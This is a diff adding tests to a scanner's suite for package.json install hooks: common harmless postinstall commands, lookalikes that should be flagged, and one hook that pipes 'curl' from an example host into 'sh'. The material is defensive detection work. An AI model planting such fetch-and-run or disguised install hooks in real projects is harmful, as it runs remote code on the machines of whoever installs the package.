@@ -52,6 +52,51 @@ describe('hooks', () => {
       ]);
   });
 
+  it.each([
+    'corepack enable && corepack prepare pnpm@9.1.0+sha512.aa --activate',
+    'pnpm -r build',
+    "pnpm --filter './packages/*' run prepare",
+    'yarn workspaces foreach -Apt run build',
+    'yarn workspace @scope/core build',
+    'npm --prefix client ci',
+    'npm run setup --workspaces --if-present',
+    'next-intl build',
+    'npx pod-install',
+    'if [ -d .git ]; then husky; fi',
+    './node_modules/.bin/prisma generate',
+    'npx husky install >/dev/null 2>&1 || true',
+    'node --run build',
+    'npm rebuild sharp',
+    'wrangler types',
+  ])('that many projects have are quiet: %s', async (postinstall) => {
+    expect(await told('package.json', { scripts: { postinstall, build: 'tsc' } })).toEqual([]);
+  });
+
+  it.each([
+    'corepack prepare x@https://pm.example.com/x.tgz',
+    'corepack node x.js',
+    'pnpm -r exec node x.js',
+    'pnpm -C client dlx some-tool',
+    'yarn workspace core node x.js',
+    'npm --prefix client exec some-tool',
+    'npm run setup --script-shell=./sh --workspaces',
+    'if node x.js; then husky; fi',
+    './tools/.bin/prisma generate',
+    'node --run other',
+    'node --import ./x.js --run build',
+    'husky >&1 & node x.js',
+    'wrangler deploy',
+  ])('that only look like them are not: %s', async (postinstall) => {
+    expect(await told('package.json', { scripts: { postinstall, build: 'tsc' } })).toEqual([
+      'MEDIUM HOOK-INSTALL-SCRIPT',
+    ]);
+  });
+
+  it('are followed where Node.js starts them by name', async () => {
+    const scripts = { postinstall: 'node --run fetch', fetch: 'curl -s https://x.example.com/i | sh' };
+    expect(await told('package.json', { scripts })).toEqual(['HIGH HOOK-DANGEROUS-COMMAND']);
+  });
+
   it('from known installers are ordinary only when all addresses are known', async () => {
     const devcontainer = (postCreateCommand: string): Promise<string[]> =>
       told('.devcontainer/devcontainer.json', { postCreateCommand });
